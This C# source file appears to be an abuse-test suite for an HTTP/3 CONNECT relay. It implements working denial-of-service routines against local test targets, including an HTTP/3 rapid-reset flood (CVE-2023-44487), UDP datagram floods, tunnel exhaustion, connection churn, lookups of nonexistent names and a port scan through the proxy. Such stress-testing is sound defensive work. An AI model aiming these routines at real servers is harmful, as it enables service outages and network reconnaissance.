using System.Security.Cryptography;
using Relay.Protocol;
using Relay.Testing.Quic;

namespace Relay.Abuse.Attacks;

/// <summary>Requests that are reset in the packet that asks for them (CVE-2023-44487), twelve a packet.</summary>
internal sealed class Http3Resets() : Attack("h3-resets", "CONNECT, RESET_STREAM and STOP_SENDING, 12 a packet, over HTTP/3")
{
    private const int InPacket = 12;

    public override int Bound => ManyRequests;

    public override void Run(Assault assault)
    {
        var request = Http3Bytes.Connect($"{assault.Targets.Holder}");
        assault.OnEach(() => assault.ConnectQuic(), peer =>
        {
            var frames = new List<byte>();
            for (var i = 0; i < InPacket && peer.HasCredit; i++, assault.Done++)
            {
                var stream = peer.NextStream();
                frames.AddRange(peer.Frame(stream, request));
                frames.AddRange(QuicFrames.Reset(stream, Http3ErrorCode.RequestCancelled, (ulong)request.Length));
                frames.AddRange(QuicFrames.Stop(stream, Http3ErrorCode.RequestCancelled));
            }
            if (frames.Count > 0)
                peer.Client.Send([.. frames]);
            peer.Pump(TimeSpan.Zero);
            return !peer.IsOver;
        });
    }
}

/// <summary>Requests that open no tunnel, as many as there is credit for.</summary>
internal sealed class Http3Requests() : Attack("h3-requests", "GET, which is refused, 12 a packet, over HTTP/3")
{
    private const int InPacket = 12;

    public override int Bound => ManyRequests;

    public override void Run(Assault assault) => assault.OnEach(() => assault.ConnectQuic(), peer =>
    {
        var frames = new List<byte>();
        for (var i = 0; i < InPacket && peer.HasCredit; i++, assault.Done++)
            frames.AddRange(peer.Frame(peer.NextStream(), Http3Bytes.Get, fin: true));
        if (frames.Count > 0)
            peer.Client.Send([.. frames]);
        peer.Pump(TimeSpan.Zero);
        return !peer.IsOver;
    });
}

/// <summary>UDP toward a target that never answers.</summary>
internal sealed class UnansweredUdp() : Attack("udp-unanswered", "UDP tunnels to a target that never answers, 128 datagrams each")
{
    private const int Datagrams = 128;

    public override int Bound => ManyRequests;

    public override void Run(Assault assault)
    {
        var request = Http3Bytes.ConnectUdp("127.0.0.1", assault.Targets.Silent.Port);
        var payload = new byte[1000];
        var before = assault.Targets.SilentDatagrams;
        assault.OnEach(() => assault.ConnectQuic(), peer =>
        {
            if (peer.HasCredit)
            {
                var stream = peer.NextStream();
                peer.SendStream(stream, request);
                byte[] datagram = [.. QuicFrames.Of(stream / 4, 0), .. payload];
                for (var i = 0; i < Datagrams; i++)
                    peer.Client.Send(QuicFrames.DatagramOf(datagram));
                peer.Client.Send(QuicFrames.Reset(stream, Http3ErrorCode.RequestCancelled, (ulong)request.Length));
                peer.Client.Send(QuicFrames.Stop(stream, Http3ErrorCode.RequestCancelled));
            }
            peer.Pump(TimeSpan.FromMilliseconds(1));
            assault.Done = assault.Targets.SilentDatagrams - before;
            return !peer.IsOver;
        });
    }
}

/// <summary>Names that nobody has, each another.</summary>
internal sealed class LookUps() : Attack("look-ups", "CONNECT to names that do not exist, each another")
{
    public override int Bound => ManyRequests;

    public override void Run(Assault assault) => assault.OnEach(() => assault.ConnectQuic(), peer =>
    {
        for (var i = 0; i < 16 && peer.HasCredit; i++, assault.Done++)
        {
            // RFC 6761 §6.4: nobody has these.
            var name = $"{Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(8))}.invalid:80";
            peer.SendStream(peer.NextStream(), Http3Bytes.Connect(name));
        }
        peer.Pump(TimeSpan.Zero);
        return !peer.IsOver;
    });
}

/// <summary>Tunnels that are opened and left, as many as there may be.</summary>
internal sealed class IdleTunnels() : Attack("idle-tunnels", "UDP tunnels that are opened and never used, as many as there may be")
{
    public override int Bound => ManyRequests;

    public override void Run(Assault assault)
    {
        var request = Http3Bytes.ConnectUdp("127.0.0.1", assault.Targets.Silent.Port);
        assault.OnEach(() => assault.ConnectQuic(), peer =>
        {
            for (var i = 0; i < 16 && peer.HasCredit; i++, assault.Done++)
                peer.SendStream(peer.NextStream(), request);
            peer.Pump(TimeSpan.FromMilliseconds(1));
            return !peer.IsOver;
        });
    }
}

/// <summary>What is thousands of sockets ends at once.</summary>
internal sealed class ManyEnds() : Attack("h3-ends", "connections that open 400 UDP tunnels each and are closed, over and over")
{
    private const ulong Tunnels = 400;

    public override int Bound => ManyRequests;

    public override void Run(Assault assault)
    {
        var request = Http3Bytes.ConnectUdp("127.0.0.1", assault.Targets.Silent.Port);
        // RFC 9000 §19.19, RFC 9114 §8.1: CONNECTION_CLOSE with H3_NO_ERROR, without a reason.
        var close = QuicFrames.Of(0x1d, 0x100, 0);
        assault.OnEach(() => assault.ConnectQuic(), peer =>
        {
            for (var i = 0; i < 16 && peer.HasCredit && peer.Opened < Tunnels; i++, assault.Done++)
                peer.SendStream(peer.NextStream(), request);
            peer.Pump(TimeSpan.Zero);
            if (peer.Opened < Tunnels)
                return !peer.IsOver;
            peer.Client.Send(close);
            return false;
        });
    }
}

/// <summary>A port after the other.</summary>
internal sealed class PortScan() : Attack("port-scan", "CONNECT to a port after the other, most of which nobody has")
{
    public override int Bound => ManyRequests;

    public override void Run(Assault assault)
    {
        var port = 1;
        assault.OnEach(() => assault.ConnectQuic(), peer =>
        {
            for (var i = 0; i < 16 && peer.HasCredit; i++, assault.Done++, port = (port % 65_535) + 1)
                peer.SendStream(peer.NextStream(), Http3Bytes.Connect($"127.0.0.1:{port}"));
            peer.Pump(TimeSpan.Zero);
            return !peer.IsOver;
        });
    }
}
